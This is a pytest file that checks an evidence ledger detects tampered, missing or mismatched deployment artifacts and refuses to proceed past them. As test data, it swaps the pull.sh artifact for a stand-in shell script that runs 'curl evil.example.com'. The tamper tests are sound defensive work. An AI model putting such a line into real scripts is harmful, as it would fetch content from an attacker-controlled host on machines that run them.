"""Artifacts under verification: what entries name stands, unchanged, and is what the pinned documents give."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from controller.errors import Stalled
from controller.ledger.append import EVIDENCE_REF, prepare
from controller.ledger.canonical import digest
from controller.ledger.entry import artifact_path
from controller.model import entry as e
from tests.support.evidence import sha
from tests.support.home import Home
from tests.support.tamper import Tamper, codes, event, rewrite


@pytest.fixture
def home(tmp_path: Path) -> Home:
    """One completed run."""
    home = Home(tmp_path)
    home.release("shop-0")
    home.release("shop-1")
    home.batch(home.story.run("dev", "shop-0"))
    return home


def with_inputs(change: Callable[[e.Draft], e.Draft], also: Callable[[e.Draft], e.Draft] | None = None) -> Tamper:
    """A run whose inputs (and orders) say something else of its artifacts."""

    def tamper(home: Home) -> None:
        drafts = home.story.run("dev", "shop-1")
        drafts[1] = change(drafts[1])
        drafts[3] = also(drafts[3]) if also is not None else drafts[3]
        home.batch(drafts)

    return tamper


def naming(draft: e.Draft, artifacts: dict[str, str], files: dict[str, bytes] | None = None) -> e.Draft:
    """The draft with other artifacts, consistently in its detail and in its answer to `how`."""
    detail = draft.detail.model_copy(update={"artifacts": artifacts})
    return draft.model_copy(
        update={"detail": detail, "how": {"artifacts": artifacts}, "files": {**draft.files, **(files or {})}}
    )


def without_artifact(draft: e.Draft) -> e.Draft:
    path = artifact_path(draft.detail.artifacts["pull.sh"])
    return draft.model_copy(update={"files": {name: d for name, d in draft.files.items() if name != path}})


def other_artifact(draft: e.Draft) -> e.Draft:
    """A well-stored script that the pinned documents do not render to."""
    evil = b"#!/bin/sh\ncurl evil.example.com\n"
    named = {**draft.detail.artifacts, "pull.sh": digest(evil)}
    known = artifact_path(draft.detail.artifacts["pull.sh"])
    kept = draft.model_copy(update={"files": {n: d for n, d in draft.files.items() if n != known}})
    return naming(kept, named, {artifact_path(digest(evil)): evil} if draft.kind == "inputs" else None)


def unnamed_plan(draft: e.Draft) -> e.Draft:
    files = {path: data for path, data in draft.files.items() if not path.startswith("artifacts/")}
    return naming(draft.model_copy(update={"files": files}), {})


def says_otherwise(draft: e.Draft) -> e.Draft:
    return draft.model_copy(update={"how": {"artifacts": {"plan.json": sha("other")}}})


def other_orders(draft: e.Draft) -> e.Draft:
    return naming(draft, {name: value for name, value in draft.detail.artifacts.items() if name != "pull.sh"})


def with_artifact(data: bytes | None) -> Tamper:
    """An artifact that was ordered gets other bytes, or goes; not by the ledger, which never does either."""

    def tamper(home: Home) -> None:
        names = home.git("ls-tree", "-r", "--name-only", EVIDENCE_REF).split("\n")
        path = next(name for name in names if name.startswith("artifacts/"))
        (commit,) = prepare(home.ledger, event(home), home.controller, home.origin_line).commits
        commit = replace(commit, changes={**commit.changes, path: data})
        home.repo.append(EVIDENCE_REF, home.ledger.commit, [commit], home.controller)

    return tamper


def falsified_artifact(home: Home) -> None:
    """The commit that names an artifact stores other bytes under its digest."""
    drafts = home.story.run("dev", "shop-1")[:2]
    path = artifact_path(drafts[1].detail.artifacts["pull.sh"])
    rewrite(home, drafts, lambda new: {**new, path: b"#!/bin/sh\ncurl evil.example.com\n"})


def unnamed_artifact(home: Home) -> None:
    rewrite(home, event(home), lambda new: {**new, artifact_path(digest(b"x")): b"x"})


def other_plan_followed(home: Home) -> None:
    home.story.follows = sha("another plan")
    home.batch(home.story.run("dev", "shop-1"))


TAMPERINGS: dict[str, tuple[Tamper, set[str]]] = {
    "artifact that no entry names": (unnamed_artifact, {"record-misplaced"}),
    "artifact edited": (with_artifact(b"{}"), {"record-changed"}),
    "artifact deleted": (with_artifact(None), {"record-changed"}),
    "artifact never stored": (with_inputs(without_artifact), {"artifact-mismatch"}),
    "artifact stored with other bytes": (falsified_artifact, {"digest-mismatch", "artifact-mismatch"}),
    "artifact that nothing renders to": (with_inputs(other_artifact, other_artifact), {"artifact-mismatch"}),
    "inputs without a plan": (
        with_inputs(unnamed_plan, unnamed_plan),
        {"artifact-mismatch", "report-mismatch"},
    ),
    "inputs that say two things of artifacts": (with_inputs(says_otherwise), {"artifact-mismatch"}),
    "orders with other artifacts": (with_inputs(lambda draft: draft, other_orders), {"artifact-mismatch"}),
    "report of another plan": (other_plan_followed, {"report-mismatch"}),
}


@pytest.mark.parametrize("kind", TAMPERINGS)
def test_tampering_is_found(home: Home, kind: str) -> None:
    tamper, expected = TAMPERINGS[kind]
    tamper(home)
    assert codes(home) == expected


@pytest.mark.parametrize("templates", ["this version's", "another version's"])
def test_artifacts_are_rendered_again_by_the_templates_of_this_version(home: Home, templates: str) -> None:
    drafts = home.story.run("dev", "shop-1")
    home.batch(drafts)
    paths = [path for path in drafts[1].files if path.startswith("artifacts/")]
    assert len(paths) == 3
    assert codes(home) == set()
    drafts = home.story.run("dev", "shop-1")
    again = [other_artifact(draft) if draft.kind in ("inputs", "ordered") else draft for draft in drafts]
    if templates == "another version's":
        old = {name: sha(name) for name in ("compose.lock.yaml", "plan.json", "pull.sh")}
        again[1] = again[1].model_copy(update={"detail": again[1].detail.model_copy(update={"templates": old})})
    home.batch(again)
    assert codes(home) == ({"artifact-mismatch"} if templates == "this version's" else set())


def test_two_runs_of_a_release_share_what_does_not_name_the_run(home: Home) -> None:
    for _ in range(2):
        for draft in home.story.run("dev", "shop-1"):
            home.batch([draft])
    stored = home.git("log", "--format=", "--name-only", "--diff-filter=A", EVIDENCE_REF, "--", "artifacts")
    # Three of the first run; of these two, the compose lock and the script are stored once.
    assert len(stored.split()) == len(set(stored.split())) == 3 + 2 + 2
    assert home.git("log", "--format=%H", "--diff-filter=MD", EVIDENCE_REF, "--", "artifacts") == ""
    assert codes(home) == set()


def test_the_controller_stops_before_an_artifact_that_is_not_what_its_name_says(home: Home) -> None:
    drafts = home.story.run("dev", "shop-1")
    path = artifact_path(drafts[1].detail.artifacts["pull.sh"])
    rewrite(home, event(home), lambda new: {**new, path: b"evil"})
    tip = home.git("rev-parse", EVIDENCE_REF)
    with pytest.raises(Stalled) as caught:
        home.batch(drafts)
    assert (caught.value.code, caught.value.where) == ("artifact-mismatch", path)
    assert home.git("rev-parse", EVIDENCE_REF) == tip
